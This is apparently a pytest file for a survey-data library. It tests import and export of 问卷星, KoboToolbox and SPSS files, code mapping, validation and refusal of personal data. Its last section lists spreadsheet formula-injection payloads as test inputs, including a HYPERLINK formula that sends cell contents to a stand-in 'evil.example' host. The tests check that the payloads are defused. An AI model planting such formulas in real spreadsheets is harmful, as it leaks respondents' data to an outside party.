"""Platform exports (问卷星 Excel, KoboToolbox CSV, SPSS .sav): fixtures written here, round trips
through validate, option text mapped to codes, nothing lost, personal data refused."""
import numpy as np
import pandas as pd
import pytest

import evalkit
from evalkit.io.exports import read_kobo, read_spss, read_wjx, to_wjx_excel
from evalkit.io.validate import validate


@pytest.fixture(scope="module")
def small(survey_raw):
    # adults, elderly and children of two communities, as exported (text)
    rows = survey_raw[survey_raw["community_id"].isin(["mingyue", "yangmiao"])]
    return rows.iloc[::61].head(30)


def _vals(s):
    """Cells as a list, blanks (NaN or None) as None."""
    return [None if pd.isna(v) else v for v in s]


def _same_valid(a, b):
    pd.testing.assert_frame_equal(a.valid.reset_index(drop=True), b.valid.reset_index(drop=True),
                                  check_dtype=False)
    # missing-value reasons: same cells, the row given as position in the table
    pos_a = {r: i for i, r in enumerate(a.valid.index)}
    pos_b = {r: i for i, r in enumerate(b.valid.index)}
    ma = a.missing.assign(row=a.missing["row"].map(pos_a)).reset_index(drop=True)
    mb = b.missing.assign(row=b.missing["row"].map(pos_b)).reset_index(drop=True)
    pd.testing.assert_frame_equal(ma, mb, check_dtype=False)


# --- 问卷星 ------------------------------------------------------------------------------------
def _wjx_by_hand(path):
    """A 问卷星 download as the platform writes it: metadata columns, numbered question texts,
    answers as option text, skipped questions as (跳过), the respondent's IP address."""
    table = pd.DataFrame({
        "序号": [1, 2, 3],
        "提交答卷时间": ["2017/6/1 9:01:12", "2017/6/1 9:20:40", "2017/6/1 10:02:03"],
        "所用时间": ["312秒", "280秒", "401秒"],
        "来源": ["微信", "手机提交", "微信"],
        "来自IP": ["10.12.3.4(山东-东营)", "10.12.3.5(山东-东营)", "10.12.8.9(山东-东营)"],
        "1、受访者编号": ["r1", "r2", "r3"],
        "2、户编号": ["h1", "h2", "h3"],
        "3、社区": ["安宁社区", "安宁", "杨庙社区"],
        "4、调查年份": [2017, 2017, 2017],
        "5、抽样层": ["anning", "anning", "yangmiao"],
        "6、初级抽样单元": ["anning-P01", "anning-P02", "yangmiao-P01"],
        "7、基础权数": [12.5, 13.0, 20.25],
        "8、您的性别": ["男", "女", "女"],
        "9、年龄": [45, 67, 12],
        "10、年龄组": ["40-59", "60+", "8-17"],
        "11、受访者类型": ["adult", "elderly", "child"],
        "12、过去两周里，我感到快乐、心情舒畅": ["大部分时间", "不知道", "(跳过)"],
        "13、您对网格员的工作满意吗？": ["非常满意", "一般", "(跳过)"],
        "14、身体好（简短标签）": ["(跳过)", "(跳过)", "经常"],
    })
    table.to_excel(path, index=False)
    return path


def test_wjx_by_hand_maps_option_text_to_codes(tmp_path, codebook, registry):
    p = _wjx_by_hand(tmp_path / "问卷星.xlsx")
    got = read_wjx(p, column_map={3: "community_id", "年龄": "age", 10: "age_group", "受访者类型": "role",
                                  "8、您的性别": "sex", "初级抽样单元": "psu"}, codebook=codebook)
    # question texts equal to the codebook's Chinese labels map on their own
    assert got.attrs["column_map"]["12、过去两周里，我感到快乐、心情舒畅"] == "who5_1"
    assert got.attrs["column_map"]["14、身体好（简短标签）"] == "kid_1"
    assert "来自IP" in got.attrs["unmapped"] and "来自IP" not in got.columns  # never read in
    assert list(got.index) == [2, 3, 4]  # spreadsheet rows
    # codebook: sex 男=1 女=2; who5 大部分时间=4; missing 不知道=97; satisfied5 非常满意=5, 一般=3; freq5 经常=4
    assert _vals(got["sex"]) == ["1", "2", "2"]
    assert _vals(got["who5_1"]) == ["4", "97", None]
    assert _vals(got["grid_sat"]) == ["5", "3", None]
    assert _vals(got["kid_1"]) == [None, None, "4"]
    rep = validate(got, codebook, registry=registry)
    assert rep.n_rows == 3 and rep.n_valid == 3, rep.problems
    assert rep.valid["community_id"].tolist() == ["anning", "anning", "yangmiao"]
    assert rep.missing[["row", "column", "code", "reason"]].values.tolist() == [[3, "who5_1", 97, "dont_know"]]


def test_wjx_unknown_option_text_is_kept_for_validation(tmp_path, codebook):
    p = _wjx_by_hand(tmp_path / "wjx.xlsx")
    t = pd.read_excel(p)
    t.loc[1, "12、过去两周里，我感到快乐、心情舒畅"] = "挺好的"  # not an option of WHO-5
    t.to_excel(p, index=False)
    got = read_wjx(p, column_map={3: "community_id", "年龄": "age", 10: "age_group", 11: "role",
                                  8: "sex", 6: "psu"}, codebook=codebook)
    rep = validate(got, codebook)
    assert rep.n_rows == rep.n_valid + rep.n_quarantined == 3
    bad = rep.problems[rep.problems["rule"] == "not_numeric"]
    assert bad[["row", "column", "value"]].values.tolist() == [[3, "who5_1", "挺好的"]]


def test_wjx_option_numbers_need_a_map_never_the_order(tmp_path, codebook):
    # issue 11 item 1: option_numbers="order" took option k for the k-th smallest code, so a
    # question listing 是 before 否 (codes 1, 0) was read reversed. Numbers now need a map.
    t = pd.DataFrame({"1、respondent_id": ["a", "b"], "2、是否参加过志愿服务": [1, 2], "3、您对网格员的工作满意吗？": [1, 5]})
    p = tmp_path / "numbers.xlsx"
    t.to_excel(p, index=False)
    with pytest.raises(evalkit.ReadError, match="option_map") as exc:
        read_wjx(p, column_map={"2": "vol_any"}, codebook=codebook)
    assert "vol_any" in str(exc.value) and "grid_sat" in str(exc.value)
    with pytest.raises(evalkit.ReadError, match="reverses"):
        read_wjx(p, column_map={"2": "vol_any"}, option_numbers="order", codebook=codebook)
    # the questionnaire lists 是, 否 (option 1 = 是 = code 1) and satisfaction from 非常满意 down
    got = read_wjx(p, column_map={"2": "vol_any"}, codebook=codebook,
                   option_map={2: ["是", "否"], "grid_sat": ["非常满意", "满意", "一般", "不满意", "非常不满意"]})
    assert _vals(got["vol_any"]) == ["1", "0"]
    assert _vals(got["grid_sat"]) == ["5", "1"]
    # numbers that are the codebook's codes: an explicit choice
    kept = read_wjx(p, column_map={"2": "vol_any"}, option_numbers="codes", codebook=codebook)
    assert _vals(kept["grid_sat"]) == ["1", "5"]
    with pytest.raises(evalkit.EvalkitError, match="option_numbers"):
        read_wjx(p, option_numbers="labels", codebook=codebook)


def test_wjx_round_trip_text_and_numbers(tmp_path, small, codebook):
    direct = validate(small, codebook)
    for answers in ("text", "number"):
        p = to_wjx_excel(small, tmp_path / f"rt_{answers}.xlsx", codebook, answers=answers)
        # to_wjx_excel(answers="number") writes the codebook's codes: say so
        got = read_wjx(p, codebook=codebook, option_numbers="codes" if answers == "number" else None)
        assert list(got.index) == list(range(2, len(small) + 2))
        rep = validate(got, codebook)
        assert rep.n_rows == len(small) == rep.n_valid + rep.n_quarantined
        _same_valid(direct, rep)


def test_wjx_column_map_errors(tmp_path, codebook):
    p = _wjx_by_hand(tmp_path / "wjx.xlsx")
    with pytest.raises(evalkit.ReadError, match="matches no column"):
        read_wjx(p, column_map={"99": "age"}, codebook=codebook)
    with pytest.raises(evalkit.ReadError, match="not a codebook variable"):
        read_wjx(p, column_map={9: "years"}, codebook=codebook)
    with pytest.raises(evalkit.ReadError, match="all map to"):
        read_wjx(p, column_map={9: "age", 4: "age"}, codebook=codebook)


def test_wjx_refuses_a_mapped_name_column(tmp_path, codebook):
    t = pd.DataFrame({"1、您的姓名": ["张伟", "李秀英", "王芳"], "2、年龄": [40, 50, 60]})
    p = tmp_path / "names.xlsx"
    t.to_excel(p, index=False)
    with pytest.raises(evalkit.PersonalDataError) as exc:
        read_wjx(p, column_map={1: "respondent_id", 2: "age"}, codebook=codebook)
    assert "respondent_id" in str(exc.value) and "张伟" not in str(exc.value)
    assert "李秀英" not in str(exc.value)


# --- KoboToolbox -------------------------------------------------------------------------------
KOBO = (
    "start;end;deviceid;intro/respondent_id;intro/household_id;intro/community_id;intro/wave;"
    "intro/stratum;intro/psu;intro/base_weight;demo/sex;demo/age;demo/age_group;demo/role;"
    "wellbeing/who5_1;part/activities;part/activities/1;part/activities/2;part/activities/3;"
    "_id;_uuid;_submission_time;_geolocation\n"
    "2017-06-01T09:00:00.000+08:00;2017-06-01T09:20:00.000+08:00;collect:ab12;a1;h1;anning;2017;anning;"
    "anning-P01;10.5;1;40;40-59;adult;4;1 3;1;0;1;101;u-1;2017-06-01T09:21:00;\n"
    "2017-06-01T10:00:00.000+08:00;2017-06-01T10:20:00.000+08:00;collect:ab12;a2;h2;anning;2017;anning;"
    "anning-P02;11;2;70;60+;elderly;97;2;0;1;0;102;u-2;2017-06-01T10:21:00;\n"
    "2017-06-01T11:00:00.000+08:00;2017-06-01T11:20:00.000+08:00;collect:ab12;a3;h3;anning;2017;anning;"
    "anning-P03;9;2;30;18-39;adult;;;;;;103;u-3;2017-06-01T11:21:00;\n"
)
ACTIVITIES = {"activities": {"1": "part_any", "2": "vol_any", "3": "selforg"}}


def test_kobo_by_hand_groups_select_multiple_and_metadata(tmp_path, codebook):
    p = tmp_path / "kobo.csv"
    p.write_text(KOBO, encoding="utf-8")
    got = read_kobo(p, select_multiple=ACTIVITIES, codebook=codebook)
    assert list(got.index) == [2, 3, 4]
    assert got.attrs["column_map"]["wellbeing/who5_1"] == "who5_1"  # group/question -> question
    for meta in ("start", "deviceid", "_uuid", "_geolocation"):
        assert meta in got.attrs["unmapped"]
    # "1 3" -> activity 1 and 3 chosen; "2" -> only 2; blank -> not asked
    assert _vals(got["part_any"]) == ["1", "0", None]
    assert _vals(got["vol_any"]) == ["0", "1", None]
    assert _vals(got["selforg"]) == ["1", "0", None]
    rep = validate(got, codebook)
    assert rep.n_valid == 3 and rep.ok, rep.problems
    assert rep.missing["reason"].tolist() == ["dont_know"]


def test_kobo_disagreeing_choice_columns_quarantine_the_row(tmp_path, codebook):
    bad = KOBO.replace("1 3;1;0;1;101", "1 3;1;1;1;101").replace("1 3;1;0;1", "1 3;1;1;1")
    p = tmp_path / "kobo_bad.csv"
    p.write_text(bad, encoding="utf-8")
    got = read_kobo(p, select_multiple=ACTIVITIES, codebook=codebook)
    assert any("row 2" in n for n in got.attrs["notes"])
    rep = validate(got, codebook)
    assert rep.n_rows == 3 == rep.n_valid + rep.n_quarantined
    assert list(rep.quarantined.index) == [2]
    assert set(rep.problems["column"]) == {"part_any", "vol_any", "selforg"}
    # an unknown choice code: the row is quarantined, not dropped, and the message says why
    p.write_text(KOBO.replace("2;0;1;0;102", "2 9;0;1;0;102"), encoding="utf-8")
    rep = validate(read_kobo(p, select_multiple=ACTIVITIES, codebook=codebook), codebook)
    assert list(rep.quarantined.index) == [3]
    assert "choice 9" in rep.problems["value"].iloc[0]


def test_kobo_round_trip(tmp_path, small, codebook):
    groups = {"respondent_id": "intro", "household_id": "intro", "community_id": "intro", "wave": "intro"}
    frame = small.copy()
    frame.columns = [f"{groups.get(c, 'q')}/{c}" for c in frame.columns]
    frame.insert(0, "_uuid", [f"uuid-{i}" for i in range(len(frame))])
    p = tmp_path / "kobo_rt.csv"
    frame.to_csv(p, sep=";", index=False)
    rep = validate(read_kobo(p, codebook=codebook), codebook)
    _same_valid(validate(small, codebook), rep)


# --- SPSS .sav ---------------------------------------------------------------------------------
def test_spss_value_labels_and_user_missing(tmp_path, codebook):
    import pyreadstat

    # an SPSS file that codes sex 0/1 (labelled 男/女), WHO-5 with user-missing -8 (不知道) and
    # -9 (拒绝回答) declared as the range -9..-1, and education's own -1 without a label
    df = pd.DataFrame({
        "respondent_id": ["a", "b", "c", "d"], "household_id": ["ha", "hb", "hc", "hd"],
        "community_id": ["mingyue"] * 4, "wave": [2016.0] * 4, "stratum": ["mingyue"] * 4,
        "psu": ["mingyue-P01"] * 4, "base_weight": [10.0, 11.0, 12.0, 13.0],
        "sex": [0.0, 1.0, 1.0, 0.0], "age": [66.0, 70.0, 45.0, np.nan],
        "age_group": ["60+", "60+", "40-59", "60+"], "role": ["elderly", "elderly", "adult", "elderly"],
        "who5_1": [5.0, -8.0, -9.0, 3.0], "education": [1.0, -1.0, 2.0, 2.0],
    })
    p = tmp_path / "survey.sav"
    pyreadstat.write_sav(
        df, p,
        variable_value_labels={"sex": {0: "男", 1: "女"}, "who5_1": {0: "从未", 5: "所有时间", -8: "不知道", -9: "拒绝回答"}},
        missing_ranges={"who5_1": [{"lo": -9, "hi": -1}], "education": [-1]},
    )
    got = read_spss(p, missing_map={"education": {-1: 99}}, codebook=codebook)
    assert got.attrs["recoded"] == ["sex"]
    assert _vals(got["sex"]) == ["1", "2", "2", "1"]         # 男 -> 1, 女 -> 2 (codebook)
    assert _vals(got["who5_1"]) == ["5", "97", "98", "3"]    # labelled user-missing -> reasons
    assert _vals(got["education"]) == ["1", "99", "2", "2"]  # missing_map
    rep = validate(got, codebook)
    assert rep.n_rows == 4 == rep.n_valid + rep.n_quarantined
    assert list(rep.quarantined.index) == [5]  # the blank required age, row 5 of the file
    assert sorted(rep.missing["reason"]) == ["dont_know", "not_applicable", "refused"]
    # without missing_map the unlabelled user-missing code stays and validation flags it
    rep2 = validate(read_spss(p, codebook=codebook), codebook)
    assert ((rep2.problems["column"] == "education") & (rep2.problems["value"] == "-1")).any()


def test_spss_round_trip(tmp_path, small, codebook):
    import pyreadstat

    frame = small.copy()
    for c in frame.columns:
        if codebook.variables[c].is_numeric:
            frame[c] = pd.to_numeric(frame[c])
    labels = {c: {k: lab.zh for k, lab in codebook.variables[c].codes.items()}
              for c in frame.columns if codebook.variables[c].codes}
    p = tmp_path / "rt.sav"
    pyreadstat.write_sav(frame, p, variable_value_labels=labels,
                         missing_ranges={c: [{"lo": 97, "hi": 99}] for c in labels if c not in ("sex",)})
    rep = validate(read_spss(p, codebook=codebook), codebook)
    _same_valid(validate(small, codebook), rep)


def test_wjx_excel_is_byte_reproducible(tmp_path, codebook):
    # the same table written twice, a second apart, gives identical bytes (fixed save stamps),
    # so data/MANIFEST.sha256 changes only when an export's content does
    import hashlib
    import time

    import pandas as pd

    from evalkit.io.exports import to_wjx_excel

    df = pd.DataFrame({"respondent_id": ["a-1", "a-2"], "who5_1": [3, 5], "community_id": ["anning", "anning"]})
    a = to_wjx_excel(df, tmp_path / "a.xlsx", codebook)
    time.sleep(1.1)
    b = to_wjx_excel(df, tmp_path / "b.xlsx", codebook)
    assert hashlib.sha256(a.read_bytes()).digest() == hashlib.sha256(b.read_bytes()).digest()


def test_readers_need_a_codebook_or_a_study(tmp_path, codebook, registry):
    # issue 10: the readers loaded the shipped codebook when given none
    p = _wjx_by_hand(tmp_path / "wjx.xlsx")
    with pytest.raises(evalkit.CodebookError, match=r"read_wjx\(\) needs the codebook.*dongying\(\)"):
        read_wjx(p)
    cmap = {3: "community_id", "年龄": "age", 10: "age_group", "受访者类型": "role", 8: "sex", 6: "psu"}
    by_study = read_wjx(p, column_map=cmap, study=evalkit.Study(codebook, registry))
    pd.testing.assert_frame_equal(by_study, read_wjx(p, column_map=cmap, codebook=codebook))
    with pytest.raises(evalkit.CodebookError, match="read_kobo"):
        read_kobo(p)
    with pytest.raises(evalkit.CodebookError, match="to_wjx_excel"):
        to_wjx_excel(pd.DataFrame({"age": [1]}), tmp_path / "x.xlsx")


# --- formula injection (issue 16) -------------------------------------------------------------------
HOSTILE = ['=HYPERLINK("http://x", "y")', "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1",
           '=HYPERLINK("http://evil.example/?"&D3&D4, "点击查看详情")']


def test_wjx_excel_writes_hostile_ids_and_answers_as_text_not_formulas(tmp_path, codebook):
    # before the fix openpyxl stored '=HYPERLINK(...)' (and '\t=1' once stripped to '=1') as a
    # live formula (cell.data_type == "f"); now every cell is a value and reads back unchanged
    import openpyxl

    n = len(HOSTILE)
    df = pd.DataFrame({"respondent_id": HOSTILE, "household_id": HOSTILE[::-1], "community_id": HOSTILE,
                       "age_group": HOSTILE[::-1], "who5_1": [3] * n})
    p = to_wjx_excel(df, tmp_path / "hostile.xlsx", codebook)
    ws = openpyxl.load_workbook(p).active
    cells = [c for row in ws.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    header = [c.value for c in next(ws.iter_rows(max_row=1))]
    col = {h.split("、", 1)[-1]: i for i, h in enumerate(header)}
    got = [r[col[codebook.variables["respondent_id"].label.zh]] for r in ws.iter_rows(min_row=2, values_only=True)]
    assert got == [h.strip() for h in HOSTILE]  # written as given (to_wjx_excel strips blanks)
    # and evalkit's own reader returns the same strings
    back = read_wjx(p, codebook=codebook)
    assert back["respondent_id"].astype(str).tolist() == [h.strip() for h in HOSTILE]
    assert back["community_id"].astype(str).tolist() == [h.strip() for h in HOSTILE]


def test_wjx_excel_bytes_unchanged_when_nothing_is_formula_like(tmp_path, codebook):
    # the text-cell pass changes nothing for ordinary tables: same bytes as pandas' own writer
    # (the digest of the shipped export in data/MANIFEST.sha256 stays valid)
    import io
    import zipfile

    df = pd.DataFrame({"respondent_id": ["a-1", "a-2"], "who5_1": [3, 5], "community_id": ["anning", "anning"]})
    p = to_wjx_excel(df, tmp_path / "plain.xlsx", codebook)
    frame = pd.read_excel(p, dtype=object)
    buf = io.BytesIO()
    frame.to_excel(buf, index=False, engine="openpyxl")
    with zipfile.ZipFile(buf) as ref, zipfile.ZipFile(p) as got:
        sheet = "xl/worksheets/sheet1.xml"
        assert got.read(sheet) == ref.read(sheet)
